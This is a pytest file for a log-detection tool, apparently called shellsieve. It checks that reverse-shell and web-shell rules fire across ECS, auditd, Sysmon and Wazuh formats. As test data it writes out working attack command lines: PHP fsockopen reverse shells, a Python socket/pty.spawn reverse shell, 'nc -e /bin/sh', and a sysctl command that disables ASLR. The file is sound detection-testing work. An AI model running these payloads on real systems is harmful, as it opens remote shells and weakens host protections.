"""The seed examples fire in every input format that can carry them, and only there.

Each scenario is one process execution (with its ancestors and, for the sequence rule, the connection it
makes) written by `format_samples` in the shape each producer writes. Every format must give the same
alerts as the ECS event does, restricted to the rules whose fields the format carries: a plain command
line carries no parent, so only the command-line rules can fire on it. Each rule fires on exactly one
output line per scenario: one alert per command, never one per auditd record.
"""

from __future__ import annotations

import io
from collections import Counter
from typing import Any

import msgspec
import pytest

from conftest import (
    PHP_FSOCKOPEN,
    PYTHON_PTY,
    REVERSE_SHELL_SEQUENCE,
    SHELL_VIA_WEB_SERVER,
    WEB_SERVER_CHILD,
    WEBSHELL_RECON,
    rule_ids,
    seed_rule_ids,
)
from format_samples import LINUX_FORMATS, WINDOWS_FORMATS, WRITERS, Exec
from shellsieve.compile.ruleset import Ruleset
from shellsieve.run.loop import run_filter
from shellsieve.run.stats import Stats
from shellsieve.settings import Settings

COMMAND_LINE_RULES = {PHP_FSOCKOPEN, PYTHON_PTY}
LINUX_RULES = COMMAND_LINE_RULES | {REVERSE_SHELL_SEQUENCE, SHELL_VIA_WEB_SERVER, WEB_SERVER_CHILD}
WINDOWS_RULES = COMMAND_LINE_RULES | {WEBSHELL_RECON}
# What each format can carry. Sysmon for Linux writes argv joined by spaces without quoting: an argument
# holding a space cannot be told apart, so the sequence rule's `process.args : "*import*pty*spawn*"`
# is carried only when the payload has no space (scenario "python-pty-nospace"), and seed 000's regex,
# which wants the shell's quote after `php -r`, never sees one.
CARRIES: dict[str, set[str]] = {
    "ecs": LINUX_RULES | WINDOWS_RULES,
    "auditd": LINUX_RULES,
    "sysmon-syslog": LINUX_RULES - {PHP_FSOCKOPEN},
    "sysmon-linux-json": LINUX_RULES - {PHP_FSOCKOPEN},
    "wazuh-audit": LINUX_RULES,
    "sysmon-winlogbeat": WINDOWS_RULES,
    "sysmon-evtx": WINDOWS_RULES,
    "wazuh-cmdline": COMMAND_LINE_RULES,
    "wazuh-command": COMMAND_LINE_RULES,
    "cmdline": COMMAND_LINE_RULES,
}
SPACED_ARGS = {"sysmon-syslog": {REVERSE_SHELL_SEQUENCE}, "sysmon-linux-json": {REVERSE_SHELL_SEQUENCE}}

BASH = Exec(("bash",), "/usr/bin/bash", pid=4000, ppid=1, time=1777800000.0, serial=1000)
APACHE = Exec(("/usr/sbin/apache2", "-k", "start"), "/usr/sbin/apache2", pid=4000, ppid=1, uid=0,
              time=1777800000.0, serial=1000)
W3WP = Exec(("c:\\windows\\system32\\inetsrv\\w3wp.exe", "-ap", "DefaultAppPool"),
            "C:\\Windows\\System32\\inetsrv\\w3wp.exe", pid=4000, ppid=600, user="DefaultAppPool",
            domain="IIS APPPOOL", windows=True, time=1777800000.0, serial=1000)
TOMCAT = Exec(("C:\\Program Files\\Apache\\tomcat9\\bin\\java.exe", "-Dcatalina.home=C:\\tomcat9"),
              "C:\\Program Files\\Apache\\tomcat9\\bin\\java.exe", pid=4000, ppid=600, user="tomcat",
              domain="WEB01", windows=True, time=1777800000.0, serial=1000)
EXPLORER = Exec(("C:\\Windows\\explorer.exe",), "C:\\Windows\\explorer.exe", pid=4000, ppid=600,
                user="alice", domain="CORP", windows=True, time=1777800000.0, serial=1000)

PY_PAYLOAD = ('import socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));'
              '[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")')


def php(code: str, parent: Exec = BASH) -> Exec:
    return Exec(("php", "-r", code), "/usr/bin/php8.2", parent=parent, uid=1000, user="alice")


# (name, exec, the rules the ECS event fires: the seeds' own examples and counter-examples)
LINUX_SCENARIOS: list[tuple[str, Exec, set[str]]] = [
    *[(f"php-fsockopen-{i}", php(code), {PHP_FSOCKOPEN}) for i, code in enumerate([
        '$s=fsockopen("10.10.10.10",9001);',
        "fsockopen('192.168.1.5',4444);",
        '$sock = fsockopen("8.8.8.8",1337);',
        '$sock=fsockopen("10.10.10.10",9001);$proc=proc_open("sh", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);',
        '$sock=fsockopen("10.10.10.10",9001);passthru("sh <&3 >&3 2>&3");',
    ])],
    ("php-script", Exec(("php", "script.php"), "/usr/bin/php8.2", parent=BASH), set()),
    ("php-info", Exec(("php", "-i"), "/usr/bin/php8.2", parent=BASH), set()),
    ("php-echo", php('echo "hello world";'), set()),
    ("php-arith", php("$a=1+1;"), set()),
    ("python-pty", Exec(("python3", "-c", PY_PAYLOAD), "/usr/bin/python3.11", parent=BASH,
                        connect=("10.10.10.10", 9001)), {PYTHON_PTY, REVERSE_SHELL_SEQUENCE}),
    ("python-pty-nospace", Exec(("python3", "-c", "__import__('pty').spawn('/bin/sh')"), "/usr/bin/python3.11",
                                parent=BASH, connect=("10.10.10.10", 9001)), {REVERSE_SHELL_SEQUENCE}),
    ("python-pty-loopback", Exec(("python3", "-c", PY_PAYLOAD), "/usr/bin/python3.11", parent=BASH,
                                 connect=("127.0.0.1", 9001)), {PYTHON_PTY}),
    ("shell-under-apache", Exec(("bash", "-c", "id"), "/usr/bin/bash", uid=33, user="www-data",
                                cwd="/var/www/html", parent=APACHE), {SHELL_VIA_WEB_SERVER}),
    ("whoami-under-apache", Exec(("whoami",), "/usr/bin/whoami", uid=33, user="www-data", cwd="/var/www/html",
                                 parent=APACHE), {WEB_SERVER_CHILD}),
    ("dropper-from-tmp", Exec(("/tmp/.x/kworker",), "/tmp/.x/kworker", uid=33, user="www-data", parent=APACHE),
     {WEB_SERVER_CHILD}),
    ("ls-under-bash", Exec(("ls", "-la", "/var/www"), "/usr/bin/ls", parent=BASH), set()),
]
WINDOWS_SCENARIOS: list[tuple[str, Exec, set[str]]] = [
    ("recon-under-iis", Exec(("python", "-h"), "C:\\Python311\\python.exe", user="DefaultAppPool",
                             domain="IIS APPPOOL", windows=True, parent=W3WP), {WEBSHELL_RECON}),
    ("recon-under-tomcat", Exec(("wget", "--help"), "C:\\tools\\wget.exe", user="tomcat", domain="WEB01",
                                windows=True, parent=TOMCAT), {WEBSHELL_RECON}),
    ("help-under-explorer", Exec(("python", "-h"), "C:\\Python311\\python.exe", user="alice", domain="CORP",
                                 windows=True, parent=EXPLORER), set()),
    # the command-line rules know no OS: typed in cmd.exe, the code is in double quotes
    ("php-fsockopen-windows", Exec(("php", "-r", "$s = fsockopen('10.10.10.10', 9001);"), "C:\\php\\php.exe",
                                   user="alice", domain="CORP", windows=True, parent=EXPLORER), {PHP_FSOCKOPEN}),
    ("python-pty-windows", Exec(("python", "-c", PY_PAYLOAD.replace('"', "'")), "C:\\Python311\\python.exe",
                                user="alice", domain="CORP", windows=True, parent=EXPLORER), {PYTHON_PTY}),
]


class _Log:
    def __getattr__(self, name: str) -> Any:
        return lambda *a, **k: None


def run_lines(ruleset: Ruleset, lines: list[bytes], **settings: Any) -> tuple[list[dict[str, Any]], Stats]:
    """Lines through run_filter in-process (stdin and stdout as byte streams); decoded output and counters."""
    out = io.BytesIO()
    stats = run_filter(ruleset, Settings(stats_interval_s=0, **settings),
                       io.BytesIO(b"".join(x + b"\n" for x in lines)), out, _Log())
    return [msgspec.json.decode(x) for x in out.getvalue().splitlines()], stats


def _cases() -> list[Any]:
    cases = []
    for formats, scenarios in ((LINUX_FORMATS, LINUX_SCENARIOS), (WINDOWS_FORMATS, WINDOWS_SCENARIOS)):
        for fmt in formats:
            for name, ex, expected in scenarios:
                cases.append(pytest.param(fmt, ex, expected, id=f"{fmt}-{name}"))
    return cases


@pytest.mark.parametrize("fmt,ex,expected", _cases())
def test_seed_fires_in_every_format_that_carries_it(shipped: Ruleset, fmt: str, ex: Exec, expected: set[str]) -> None:
    lines = WRITERS[fmt](ex)
    docs, stats = run_lines(shipped, lines)
    assert len(docs) == len(lines)  # every line leaves, in order, as valid JSON
    carried = CARRIES[fmt]
    if any(" " in a for a in ex.args):
        carried = carried - SPACED_ARGS.get(fmt, set())
    fired = Counter(r for d in docs for r in seed_rule_ids(d))
    assert set(fired) == expected & carried
    assert all(n == 1 for n in fired.values()), fired  # one alert per command, not one per record
    assert sum(stats.malformed.values()) == 0


def test_ecs_carries_every_seed_rule(shipped: Ruleset) -> None:
    """The reference column: on ECS each scenario fires exactly its expected rules."""
    for _, ex, expected in LINUX_SCENARIOS + WINDOWS_SCENARIOS:
        docs, _ = run_lines(shipped, WRITERS["ecs"](ex))
        assert {r for d in docs for r in seed_rule_ids(d)} == expected


def test_formats_are_detected_line_by_line(shipped: Ruleset) -> None:
    """One stream mixing every shape: each line is recognised, all the alerts come out, in input order."""
    ex = LINUX_SCENARIOS[0][1]
    win = WINDOWS_SCENARIOS[0][1]
    lines: list[bytes] = []
    for fmt in LINUX_FORMATS:
        lines += WRITERS[fmt](ex)
    for fmt in ("sysmon-winlogbeat", "sysmon-evtx"):
        lines += WRITERS[fmt](win)
    docs, stats = run_lines(shipped, lines)
    assert len(docs) == len(lines)
    assert dict(stats.formats) == {"ecs": 1, "auditd": 14, "sysmon-syslog": 2, "wazuh": 4, "cmdline": 1, "sysmon": 4}
    hits = [seed_rule_ids(d) for d in docs if seed_rule_ids(d)]
    assert hits == [[PHP_FSOCKOPEN]] * 6 + [[WEBSHELL_RECON]] * 2
    # text lines leave as {"message": <the line>}; JSON lines without a hit byte for byte
    for line, doc in zip(lines, docs):
        if not line.startswith(b"{"):
            assert doc["message"] == line.decode()
        elif not rule_ids(doc):
            assert doc == msgspec.json.decode(line)


@pytest.mark.parametrize("fmts", [("ecs", "wazuh-audit", "sysmon-winlogbeat"), ("sysmon-evtx", "ecs"),
                                  ("ecs", "wazuh-command")])
def test_json_shapes_in_one_block_are_told_apart(shipped: Ruleset, fmts: tuple[str, ...]) -> None:
    """Every line opens a JSON object, so only the format markers in the line database's scan can
    tell a Sysmon or Wazuh line from ECS: such a block is routed line by line, not as ECS."""
    lines: list[bytes] = []
    for fmt in fmts:
        lines += WRITERS[fmt](WINDOWS_SCENARIOS[0][1] if fmt.startswith("sysmon") else LINUX_SCENARIOS[0][1])
    docs, stats = run_lines(shipped, lines)
    assert len(docs) == len(lines)
    want = Counter("sysmon" if f.startswith("sysmon") else "wazuh" if f.startswith("wazuh") else f for f in fmts)
    assert set(stats.formats) == set(want)
    alerts = [r for d in docs for r in seed_rule_ids(d)]
    assert sorted(alerts) == sorted([WEBSHELL_RECON if f.startswith("sysmon") else PHP_FSOCKOPEN for f in fmts])


@pytest.fixture(scope="module")
def public() -> Ruleset:
    """Two public Sigma linux rules: one written for auditd records, one for process creation."""
    from conftest import RULESETS
    from shellsieve.cli import build

    linux = RULESETS / "sigma" / "linux"
    if not linux.is_dir():
        pytest.skip("the shared rulesets are not next to this clone")
    _, ruleset, _ = build([linux / "auditd" / "lnx_auditd_disable_aslr_protection.yml",
                           linux / "process_creation" / "proc_creation_lnx_netcat_reverse_shell.yml"])
    return ruleset


class TestPublicRulesOnOtherShapes:
    """Rules written for one shape fire on the others: Sigma's auditd `type`/`a0..aN` rule on raw auditd
    records and Wazuh's, Sigma's Image/CommandLine rule on auditd, Sysmon for Linux, Wazuh and ECS."""

    ASLR = "e497a24e-9345-4a62-9803-b06d7d7cb132"  # lnx_auditd_disable_aslr_protection
    NETCAT = "7f734ed0-4f47-46c0-837f-6ee62505abd9"  # proc_creation_lnx_netcat_reverse_shell

    # ECS process events carry no auditd record type (`type: 'EXECVE'`): not a shape for this rule
    @pytest.mark.parametrize("fmt", ["auditd", "wazuh-audit"])
    def test_sigma_auditd_rule(self, public: Ruleset, fmt: str) -> None:
        ex = Exec(("sysctl", "-w", "kernel.randomize_va_space=0"), "/usr/sbin/sysctl", parent=BASH)
        docs, _ = run_lines(public, WRITERS[fmt](ex))
        assert [rule_ids(d) for d in docs if rule_ids(d)] == [[self.ASLR]]
        ok = Exec(("sysctl", "-w", "kernel.randomize_va_space=2"), "/usr/sbin/sysctl", parent=BASH)
        docs, _ = run_lines(public, WRITERS[fmt](ok))
        assert not any(rule_ids(d) for d in docs)

    @pytest.mark.parametrize("fmt", ["ecs", "auditd", "sysmon-syslog", "wazuh-audit"])
    def test_sigma_process_creation_rule(self, public: Ruleset, fmt: str) -> None:
        ex = Exec(("nc", "-e", "/bin/sh", "10.0.0.1", "4444"), "/usr/bin/nc", parent=BASH)
        docs, _ = run_lines(public, WRITERS[fmt](ex))
        assert [rule_ids(d) for d in docs if rule_ids(d)] == [[self.NETCAT]]
